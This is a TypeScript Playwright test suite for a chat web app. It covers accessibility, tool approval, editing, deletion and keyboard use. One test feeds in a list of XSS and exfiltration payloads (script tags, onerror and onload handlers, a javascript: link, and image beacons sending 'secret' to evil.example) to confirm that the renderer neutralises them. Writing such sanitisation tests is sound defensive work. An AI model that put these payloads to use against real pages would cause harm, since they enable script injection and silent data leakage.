import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { BrowserContextOptions } from 'playwright-core';
import { CONVERSATIONS, type ApiClient } from '../support/api-client.js';
import { violationsOn } from '../support/axe.js';
import type { ChatPage } from '../support/chat-page.js';
import { until } from '../support/redis-server.js';
import { LIMIT_MS, WebChatScene } from '../support/web-chat-scene.js';
import { WordGate } from '../support/word-gate.js';

const SCREENS: Readonly<Record<string, BrowserContextOptions>> = {
  wide: { viewport: { width: 1280, height: 800 } },
  'wide-dark': { viewport: { width: 1280, height: 800 }, colorScheme: 'dark' },
  phone: { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true },
  'phone-dark': {
    viewport: { width: 390, height: 844 },
    hasTouch: true,
    isMobile: true,
    colorScheme: 'dark',
  },
};

/** A word of code that has its colours. */
const COLOURED = '.code-block span[style*="--shiki-"]';

/** What a model could say to a page that believes it. */
const HOSTILE = [
  '<img src="https://evil.example/a.png" onerror="document.title=1">',
  '<script>document.title=2</script>',
  '[link](javascript:document.title=3)',
  '![beacon](https://evil.example/b.png?said=secret)',
  '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<iframe src="https://evil.example/c"></iframe>',
  '[mail](mailto:d@evil.example?body=secret)',
  'me@evil.example',
].join(' ');

describe('every state of the page, in a browser', () => {
  const gate = new WordGate();
  let scene: WebChatScene;

  beforeAll(async () => {
    scene = await WebChatScene.start(gate);
  }, LIMIT_MS);

  afterAll(() => scene.close(), LIMIT_MS);

  async function visit(
    screen: string,
    client: ApiClient,
    query: string,
    use: (chat: ChatPage) => Promise<void>,
  ): Promise<void> {
    const options = { ...SCREENS[screen], reducedMotion: 'reduce' } as const;
    const context = await scene.browser.newContext(options);
    try {
      await use(await scene.open(context, client, query));
    } finally {
      await context.close();
    }
  }

  it.each(Object.keys(SCREENS))(
    'is accessible in all of them: %s',
    async (screen) => {
      const client = scene.client();
      await visit(screen, client, '', async (chat) => {
        const { page } = chat;
        const look = async (state: string): Promise<void> => {
          await chat.screenshot(`${screen}-${state}`);
          expect({ state, violations: await violationsOn(page) }).toEqual({
            state,
            violations: [],
          });
        };
        gate.shut();
        await chat.field.waitFor();
        await look('new');
        await page.getByRole('button', { name: 'Show me how to read' }).click();
        await page.getByText('Thinking …').or(page.getByText('Waiting')).first().waitFor();
        await look('waiting');
        gate.allow(60);
        await page.getByText('let rest').waitFor();
        await page.locator(COLOURED).first().waitFor();
        await look('streaming');
        gate.open();
        await chat.settles();
        await page.locator(COLOURED).filter({ hasText: 'yield' }).last().waitFor();
        await look('code');
        await page.locator('.reasoning summary').click();
        await look('reasoning');

        await chat.send('What is the weather in Bern?');
        await page.getByText('cloudy in Bern.').waitFor();
        await page.locator('.tool-call summary').click();
        await page.getByRole('region', { name: 'Output' }).scrollIntoViewIfNeeded();
        await look('tool');
        await chat.send('Please book a table for two at eight');
        await page.getByRole('button', { name: 'Approve' }).waitFor();
        await chat.settles();
        await look('approval');
        // It waits, also after a reload.
        await page.reload();
        await chat.press('Approve');
        await page.getByText('T-2041', { exact: true }).waitFor();
        await chat.settles();
        await look('approved');
        await chat.send('Please book a table for six at nine');
        await chat.press('Deny');
        await page.getByText('I have booked nothing.').waitFor();
        await chat.settles();
        await look('denied');

        await page.getByRole('button', { name: 'Answer again' }).last().click();
        await page.getByText('Version 2/2').waitFor();
        await chat.settles();
        await look('branches');
        await page.getByRole('button', { name: 'Version before' }).click();
        await page.getByText('Version 1/2').waitFor();
        await page.locator('[data-role=user]').last().hover();
        await page.getByRole('button', { name: 'Edit', exact: true }).last().click();
        await look('edit');
        await page.getByLabel('Edit your message').fill('Count to 3');
        await page.keyboard.press('Enter');
        await chat.sees('1, 2, 3. Done.');
        await chat.settles();

        await page.getByRole('button', { name: 'Link a file' }).click();
        await look('link');
        await page.getByLabel('Its address').fill('https://files.example.com/plan.pdf');
        await page.keyboard.press('Enter');
        await look('linked');
        await chat.send('Read it');
        await page.getByRole('link', { name: /plan.pdf/ }).waitFor();
        await chat.settles();
        await look('file');

        await chat.showList();
        await page
          .getByRole('navigation')
          .getByRole('button', { name: 'New', exact: true })
          .waitFor();
        await look('list');
        const item = 'Actions for Show me how to read';
        await page.getByRole('navigation').getByRole('button', { name: item }).click();
        await look('menu');
        await page.getByRole('menuitem', { name: 'Rename' }).click();
        await page.locator('dialog.rename[open]').waitFor();
        await look('rename');
        await page.getByLabel('Title').fill('Streams');
        await page.keyboard.press('Enter');
        await page.getByRole('button', { name: /^Streams/ }).waitFor();
        const actions = page.getByRole('navigation').getByRole('button', { name: /^Actions/ });
        await actions.click();
        await page.getByRole('menuitem', { name: 'Archive' }).click();
        await page.getByText('in the archive').first().waitFor();
        await look('archived');
        await page.getByText('Archived', { exact: true }).click();
        await page.getByRole('button', { name: /^Streams/ }).waitFor();
        await look('archive');
        await actions.click();
        await page.getByRole('menuitem', { name: 'Delete' }).click();
        await page.getByText('The conversation is deleted.').waitFor();
        await look('deleted');
        await chat.press('Undo');
        await page.getByRole('button', { name: /^Streams/ }).waitFor();
      });
    },
    LIMIT_MS,
  );

  it(
    'deletes when the time to undo is over, or the page is closed',
    async () => {
      const client = scene.client();
      const { id } = (await client.post(CONVERSATIONS, { title: 'Gone' })).body;
      const { id: later } = (await client.post(CONVERSATIONS, { title: 'Later' })).body;
      await visit('wide', client, '', async (chat) => {
        await chat.choose('Actions for Gone', 'Delete');
        expect((await client.get(`${CONVERSATIONS}/${id}`)).status).toBe(200);
        await chat.choose('Actions for Later', 'Delete');
        await until(
          async () => (await client.get(`${CONVERSATIONS}/${id}`)).status === 404,
          20_000,
        );
        await chat.page.goto('about:blank');
        await until(
          async () => (await client.get(`${CONVERSATIONS}/${later}`)).status === 404,
          20_000,
        );
      });
    },
    LIMIT_MS,
  );

  it(
    'leaves a reader where he is, and loads what is above',
    async () => {
      const client = scene.client();
      const messages = Array.from({ length: 90 }, (_, i) => ({
        content: `Message ${i}\nand more`,
      }));
      const { id } = (await client.post(CONVERSATIONS, { messages })).body;
      gate.open();
      await visit('wide', client, `?conversation=${id}`, async (chat) => {
        const log = chat.page.getByRole('log');
        const top = (): Promise<number> => log.evaluate(({ scrollTop }) => scrollTop as number);
        await chat.sees('Message 89\nand more');
        gate.shut();
        await chat.send('Count to 200');
        gate.allow(20);
        await chat.sees('15, 16, 17,');
        await log.hover();
        await chat.page.mouse.wheel(0, -900);
        await chat.page.getByRole('button', { name: 'To the latest message' }).waitFor();
        const before = await top();
        gate.open();
        await chat.sees('199, 200. Done.');
        expect(await top()).toBe(before);
        await chat.page.mouse.wheel(0, -20_000);
        await chat.page.getByText('Message 0\n').waitFor();
        await chat.press('To the latest message');
        await chat.page.getByRole('button', { name: 'To the latest message' }).waitFor({
          state: 'detached',
        });
      });
    },
    LIMIT_MS,
  );

  it(
    'takes nothing from a text but its words',
    async () => {
      const client = scene.client();
      gate.open();
      await visit('wide', client, '', async (chat) => {
        const asked: string[] = [];
        chat.page.on('request', (request) => asked.push(new URL(request.url()).host));
        await chat.send(HOSTILE);
        await chat.settles();
        const reply = chat.messages.last();
        expect(await reply.innerText()).toContain('<script>document.title=2</script>');
        expect(await reply.locator('img, script, iframe').count()).toBe(0);
        expect(await reply.getByRole('link', { name: 'beacon' }).count()).toBe(1);
        for (const link of await reply.getByRole('link').all()) {
          expect(await link.getAttribute('href')).toMatch(/^https?:/);
        }
        expect(await reply.innerText()).toContain('mail me@evil.example');
        expect(await chat.page.title()).toBe('Conversations');
        const lookups = chat.page.locator('meta[http-equiv="x-dns-prefetch-control"]');
        expect(await lookups.getAttribute('content')).toBe('off');
        expect(new Set(asked)).toEqual(new Set([new URL(chat.page.url()).host]));
        await chat.screenshot('hostile');
      });
    },
    LIMIT_MS,
  );

  it(
    'is used with the keyboard alone',
    async () => {
      const client = scene.client();
      gate.open();
      await visit('wide', client, '', async (chat) => {
        const { keyboard } = chat.page;
        const focused = (): Promise<string> =>
          chat.page
            .locator(':focus')
            .evaluate(
              (element: {
                readonly ariaLabel: string | null;
                readonly textContent: string | null;
              }) => String(element.ariaLabel ?? element.textContent).trim(),
            );
        await chat.field.waitFor();
        await keyboard.type('Count to 3');
        await keyboard.press('Enter');
        await chat.sees('3. Done.');
        await chat.settles();
        await keyboard.press('Shift+Tab');
        expect(await focused()).toBe('Link a file');
        await keyboard.press('Enter');
        await keyboard.press('Escape');
        expect(await focused()).toBe('Link a file');
        await keyboard.press('Shift+Tab');
        expect(await focused()).toBe('Answer again');
        await keyboard.press('Enter');
        await chat.page.getByText('Version 2/2').waitFor();
        await chat.settles();

        await chat.page
          .getByRole('navigation')
          .getByRole('button', { name: /^Actions/ })
          .focus();
        await keyboard.press('Enter');
        await chat.page.getByRole('menuitem', { name: 'Rename' }).waitFor();
        await keyboard.press('Enter');
        await chat.page.getByLabel('Title').waitFor();
        await keyboard.type('By hand');
        await keyboard.press('Enter');
        await chat.page.getByRole('button', { name: /^By hand/ }).waitFor();
        await until(async () => (await focused()) === 'Actions for By hand', 20_000);
        await keyboard.press('Enter');
        await chat.page.getByRole('menuitem', { name: 'Delete' }).waitFor();
        await keyboard.press('End');
        await until(async () => (await focused()) === 'Delete', 20_000);
        await keyboard.press('Enter');
        await until(async () => (await focused()) === 'Undo', 20_000);
        await keyboard.press('Enter');
        await chat.page.getByRole('button', { name: /^By hand/ }).waitFor();
      });
    },
    LIMIT_MS,
  );

  it(
    'shows that something is being loaded, that there is nothing, and that nobody answers',
    async () => {
      const client = scene.client();
      const { id } = (await client.post(CONVERSATIONS, { messages: [{ content: 'Hi' }] })).body;
      for (const screen of ['wide', 'phone']) {
        await visit(screen, client, '', async (chat) => {
          const { page } = chat;
          let open = (): void => undefined;
          const opened = new Promise<void>((resolve) => (open = resolve));
          await page.route('**/api/**', async (route) => {
            await opened;
            await route.continue();
          });
          await page.goto(new URL(`?conversation=${id}`, page.url()).href);
          await page.getByRole('status', { name: 'Loading the messages' }).waitFor();
          await chat.screenshot(`${screen}-loading`);
          expect(await violationsOn(page)).toEqual([]);
          open();
          await chat.sees('Hi');
          await page.unroute('**/api/**');
          await page.route('**/api/**', (route) => route.abort());
          await page.reload();
          await chat.alert.last().waitFor();
          await chat.screenshot(`${screen}-unreachable`);
          expect(await violationsOn(page)).toEqual([]);
          await page.unroute('**/api/**');
          await page.getByRole('main').getByRole('button', { name: 'Try again' }).click();
          await chat.sees('Hi');
        });
      }
    },
    LIMIT_MS,
  );
});
